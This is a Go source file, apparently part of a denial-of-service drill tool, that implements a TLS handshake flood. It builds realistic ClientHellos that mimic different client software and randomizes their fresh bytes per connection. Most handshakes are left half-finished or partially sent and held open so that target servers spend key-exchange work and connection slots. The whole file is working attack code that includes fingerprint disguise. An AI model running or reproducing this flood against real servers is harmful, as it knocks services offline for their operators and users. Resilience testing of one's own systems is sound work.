package drill

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"time"

	"github.com/seawall/seawall/internal/drill/wire"
)

const (
	maxHellos = 256             // made before a flood of handshakes begins, for a fresh one each would cost a key exchange
	hold      = 5 * time.Second // how long a handshake that will not be finished stays open
)

// Of a record with a ClientHello (RFC 8446 §5.1, §4.1.2): where what is fresh in each begins.
const (
	helloRandom    = 11
	helloSessionID = 44
	helloFreshSize = 32

	recordHeader    = 5
	recordAlert     = 21
	recordHandshake = 22
)

// errAlert is a server that refuses a handshake in TLS's own words.
var errAlert = errors.New("alert")

// makeHellos makes what a flood of handshakes begins with: real hellos of each look, a few of each if there are few looks.
func (a *attack) makeHellos() error {
	looks := a.wardrobe.looks
	for i := range maxHellos {
		h, err := a.dialer.Hello(looks[i%len(looks)].Software)
		if err != nil {
			return err
		}
		a.hellos = append(a.hellos, h)
	}
	return nil
}

// hello is one of l's, with the random of its own.
func (a *attack) hello(l *look, rng *rand.Rand) []byte {
	looks := len(a.wardrobe.looks)
	i := l.index % maxHellos
	i += looks * rng.IntN((maxHellos-1-i)/looks+1)
	h := bytes.Clone(a.hellos[i])
	fresh := func(at int) {
		for j := at; j < at+helloFreshSize && j < len(h); j++ {
			h[j] = byte(rng.Uint32())
		}
	}
	fresh(helloRandom)
	if len(h) > helloSessionID && h[helloSessionID-1] == helloFreshSize {
		fresh(helloSessionID)
	}
	return h
}

// handshake begins a TLS handshake. A quarter are finished, half are left when the server has done its costly part, and
// of the last quarter, which stay open as long as they may, half have not even said hello in full.
func (a *attack) handshake(ctx context.Context, s slot) {
	l := a.wardrobe.of(s)
	k := a.field.pool.hold(a, &a.bots[s.bot])
	if k == nil {
		a.withhold()
		return
	}
	a.wg.Go(func() {
		a.field.account.late(s.at)
		a.field.account.begin()
		rng := rand.New(rand.NewPCG(s.seed, 0))
		manner := rng.IntN(8)
		var err error
		if manner < 2 {
			k.look = l
			err = a.connect(ctx, k, time.Now().Add(a.timeout))
		} else {
			err = a.sayHello(ctx, k, a.hello(l, rng), manner)
		}
		a.settle(ctx, k, err, func() { a.field.account.took("handshake") })
	})
}

// settle gives back a connection that was held, and counts what became of it.
func (a *attack) settle(ctx context.Context, k *link, err error, taken func()) {
	connected := k.shut != nil
	kept := a.field.pool.release(k, false)
	switch {
	case errors.Is(err, errHeld), connected && (!kept || ctx.Err() != nil):
		a.field.account.note("held", 1) // as long as we wanted
	case err != nil:
		a.field.account.fail(ctx, err, 1)
	default:
		taken()
	}
}

// errHeld is a connection that the target let stay open for as long as it was to.
var errHeld = errors.New("held")

// sayHello sends a hello, or a part of it, over TCP, and looks what the server makes of it.
func (a *attack) sayHello(ctx context.Context, k *link, hello []byte, manner int) error {
	dctx, cancel := context.WithTimeout(ctx, a.timeout)
	defer cancel()
	nc, err := a.dialer.DialTCP(dctx, k.bot.source)
	if err != nil {
		return err
	}
	if !a.field.pool.connected(k, nil, func() { wire.Abandon(nc) }) {
		return context.Canceled
	}
	partial := manner == 7
	if partial {
		hello = hello[:len(hello)/2]
	}
	_ = nc.SetDeadline(time.Now().Add(a.timeout))
	if _, err := nc.Write(hello); err != nil {
		return err
	}
	if !partial {
		if err := readRecord(nc); err != nil || manner < 6 {
			return err
		}
	}
	a.field.pool.spare(k)
	_ = nc.SetDeadline(time.Now().Add(hold))
	if _, err := io.Copy(io.Discard, nc); wire.Why(err) == "timeout" {
		return errHeld
	}
	return io.EOF
}

// readRecord reads the header of the server's first record.
func readRecord(nc net.Conn) error {
	var b [recordHeader]byte
	if _, err := io.ReadFull(nc, b[:]); err != nil {
		return err
	}
	switch b[0] {
	case recordHandshake:
		return nil
	case recordAlert:
		return errAlert
	}
	return fmt.Errorf("%w: record of type %d", wire.ErrMalformed, b[0])
}
